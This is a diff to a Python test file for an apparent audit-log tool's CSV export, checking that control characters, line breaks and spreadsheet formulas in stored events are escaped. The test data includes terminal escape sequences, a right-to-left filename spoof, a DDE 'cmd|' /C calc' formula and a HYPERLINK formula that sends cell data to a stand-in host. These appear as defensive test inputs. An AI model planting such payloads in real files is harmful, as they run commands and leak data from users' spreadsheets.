@@ -265,9 +265,10 @@ def run_on_terminal(*argv: str) -> bytes:
         os.close(controller)
 
 
-def test_csv_on_a_terminal_shows_control_characters_escaped(tmp_path: Path) -> None:
+def test_csv_shows_control_characters_escaped_on_a_terminal_and_in_files(
+        tmp_path: Path) -> None:
     """A client's escape sequence in a stored event drove the terminal of whoever ran
-    ``ragtrail export --format csv``; into a pipe or a file the CSV stays exact."""
+    ``ragtrail export --format csv``; into a pipe or a file the CSV is escaped the same way."""
     store_url = f"sqlite:///{tmp_path / 'audit.db'}"
     hostile = SecurityEvent("x\x1b]0;pwned\x07", Severity.HIGH, "10.0.0.1",
                             "\x1b[2J\u202eexe.txt", 1_714_564_800_000_000)
@@ -279,4 +280,37 @@ def test_csv_on_a_terminal_shows_control_characters_escaped(tmp_path: Path) -> N
     assert rb"\x1b[2J\u202eexe.txt" in on_terminal
     piped = run_process("export", "--db", store_url, "--format", "csv")
     row = next(csv.DictReader(io.StringIO(piped.out)))
-    assert (row["event_type"], row["description"]) == (hostile.event_type, hostile.description)
+    assert (row["event_type"], row["description"]) == (
+        r"x\x1b]0;pwned\x07", r"\x1b[2J\u202eexe.txt")
+
+
+# Every character Python's str.splitlines() breaks at, and a spreadsheet formula after each.
+_LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
+
+
+def test_csv_export_keeps_each_record_on_one_line_and_runs_no_formula(
+        tmp_path: Path) -> None:
+    """Stored text with line breaks, tabs, NULs and formulas (a user agent, a path, a
+    correlation ID) exported to a file: one line per record, every text cell escaped (an
+    escaped tab starts with a backslash, no formula) and neutralised, numbers (negative too)
+    left numbers."""
+    store_url = f"sqlite:///{tmp_path / 'audit.db'}"
+    texts = ["\t=1+1", "\r=1+1", "\x00=1+1", "  =HYPERLINK(\"http://x/\"&A1)", "-2+3",
+             "@SUM(A1)", "+1", *(f"a{char}=cmd|' /C calc'!A0" for char in _LINE_BREAKS)]
+    write_store(store_url, *(
+        SecurityEvent("user_agent", Severity.LOW, "gateway", text, 1_714_564_800_000_000 + n,
+                      correlation_id=text, pid=-1 - n, count=1)
+        for n, text in enumerate(texts)))
+    target = tmp_path / "events.csv"
+    result = run_process("export", "--db", store_url, "--format", "csv", "-o", str(target))
+    assert result.status == 0
+    data = target.read_text(encoding="utf-8")
+    lines = data.splitlines()
+    assert len(lines) == 1 + len(texts)  # wc -l, grep and line shippers see one row a record
+    rows = list(csv.DictReader(io.StringIO(data, newline="")))
+    expected = [r"\t=1+1", r"\r=1+1", r"\x00=1+1", "'  =HYPERLINK(\"http://x/\"&A1)",
+                "'-2+3", "'@SUM(A1)", "'+1",
+                *("a" + repr(char)[1:-1] + "=cmd|' /C calc'!A0" for char in _LINE_BREAKS)]
+    assert [row["description"] for row in rows] == expected
+    assert [row["correlation_id"] for row in rows] == expected
+    assert [row["pid"] for row in rows] == [str(-1 - n) for n in range(len(texts))]
